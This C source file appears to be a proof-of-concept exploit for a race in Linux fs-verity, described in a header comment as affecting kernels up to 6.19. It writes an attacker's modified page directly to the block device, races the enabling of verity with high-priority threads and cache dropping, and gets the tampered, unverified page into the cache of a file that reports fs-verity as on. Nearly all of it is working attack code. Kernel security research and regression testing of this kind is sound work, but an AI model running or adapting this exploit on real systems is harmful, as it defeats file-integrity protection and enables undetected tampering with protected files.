/* SPDX-License-Identifier: GPL-2.0-or-later */

/*
 * open_window FILE DEVICE: S15 by another window
 *
 * Up to 6.19 the kernel sets S_VERITY first and i_verity_info, without which nothing is verified, a
 * moment later. Whoever finds FS_IOC_ENABLE_VERITY there drops every page, opens FILE afresh (its
 * cache is empty and S_VERITY is set: whoever looks at just that takes it for settled) and, while
 * that open waits for the disk, reads Eve's page by a descriptor from before. Exit status 2 when
 * the moment was missed: try again, on a new file.
 */

#include "attack.h"

#include <linux/fiemap.h>
#include <linux/fs.h>
#include <pthread.h>
#include <sched.h>
#include <semaphore.h>
#include <time.h>

#define DISTANCE 256 /* pages that the tree must be ahead of the page */

static int old_fd;
static off_t place;
static sem_t go;
static uint32_t seen;

static uint64_t block_of(int fd, off_t offset)
{
	union {
		struct fiemap map;
		uint8_t room[sizeof(struct fiemap) + sizeof(struct fiemap_extent)];
	} request = {.map = {.fm_start = (uint64_t)offset, .fm_length = PAGE,
			     .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1}};
	const struct fiemap_extent *extent = request.map.fm_extents;

	need(ioctl(fd, FS_IOC_FIEMAP, &request) == 0, "FIEMAP");
	need(request.map.fm_mapped_extents == 1, "the page has no block");
	return extent->fe_physical + ((uint64_t)offset - extent->fe_logical);
}

static int is_cached(const uint8_t *map, size_t page)
{
	unsigned char resident;

	need(mincore((void *)(map + page * PAGE), PAGE, &resident) == 0, "mincore");
	return resident & 1;
}

static void be_urgent(int priority)
{
	struct sched_param parameter = {.sched_priority = priority};

	need(pthread_setschedparam(pthread_self(), SCHED_FIFO, &parameter) == 0, "SCHED_FIFO");
}

static void *read_evil(void *unused)
{
	be_urgent(50);
	sem_wait(&go);
	need(pread(old_fd, &seen, sizeof(seen), place) == sizeof(seen), "pread");
	return unused;
}

static int has_flag(void)
{
	struct statx st;

	need(statx(old_fd, "", AT_EMPTY_PATH, STATX_BASIC_STATS, &st) == 0, "statx");
	return (st.stx_attributes & STATX_ATTR_VERITY) != 0;
}

static int has_digest(void)
{
	union {
		struct fsverity_digest header;
		uint8_t room[sizeof(struct fsverity_digest) + 64];
	} digest = {.header.digest_size = 64};

	return ioctl(old_fd, FS_IOC_MEASURE_VERITY, &digest) == 0;
}

int main(int argc, char **argv)
{
	static uint8_t alice[PAGE] __attribute__((aligned(PAGE)));
	static uint8_t eve[PAGE] __attribute__((aligned(PAGE)));
	const uint32_t she = EVE;
	struct stat st;
	pthread_t thread;
	int status;

	need(argc > 2, "usage: open_window FILE DEVICE");
	int device = open(argv[2], O_RDWR | O_DIRECT);
	old_fd = open(argv[1], O_RDONLY);
	need(old_fd >= 0 && device >= 0 && fstat(old_fd, &st) == 0, "open");
	const uint8_t *map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, old_fd, 0);
	need(map != MAP_FAILED && st.st_size > 3 * DISTANCE * PAGE, "mmap");
	place = find_alice(map, DISTANCE * PAGE);
	off_t page = place & ~(off_t)(PAGE - 1);
	uint64_t block = block_of(old_fd, page);
	need(pread(device, alice, PAGE, (off_t)block) == PAGE, "read the device");
	need(memcmp(alice, map + page, PAGE) == 0, "this is not the page's block");
	memcpy(eve, alice, PAGE);
	memcpy(eve + place % PAGE, &she, sizeof(she));
	munmap((void *)map, (size_t)st.st_size);
	map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, old_fd, 0);
	posix_fadvise(old_fd, 0, 0, POSIX_FADV_DONTNEED);
	need(map != MAP_FAILED && !is_cached(map, (size_t)page / PAGE), "drop the page");
	sem_init(&go, 0, 0);
	need(pthread_create(&thread, NULL, read_evil, NULL) == 0, "pthread_create");

	pid_t child = fork();
	if (child == 0)
		_exit(enable_verity(old_fd) == 0 ? DONE : KERNEL_REFUSED);
	struct timespec pause = {.tv_nsec = 200000};
	while (!is_cached(map, (size_t)page / PAGE + DISTANCE)) {
		need(waitpid(child, &status, WNOHANG) == 0, "too late");
		nanosleep(&pause, NULL);
	}
	need(pwrite(device, eve, PAGE, (off_t)block) == PAGE, "write the device");

	be_urgent(60);
	pause.tv_nsec = 10000;
	while (!has_flag()) {
		need(waitpid(child, &status, WNOHANG) == 0, "it failed");
		nanosleep(&pause, NULL);
	}
	int hit = !has_digest();
	if (hit) {
		posix_fadvise(old_fd, 0, 0, POSIX_FADV_DONTNEED);
		sem_post(&go);
		close(open(argv[1], O_RDONLY));
		pthread_join(thread, NULL);
	}
	need(pwrite(device, alice, PAGE, (off_t)block) == PAGE, "restore the block");
	need(waitpid(child, &status, 0) == child, "waitpid");
	need(hit, "the moment was missed");
	need(seen == EVE, "the page read is not Eve's");
	printf("open_window: fs-verity is on, and the cache has Eve's page\n");
	return DONE;
}
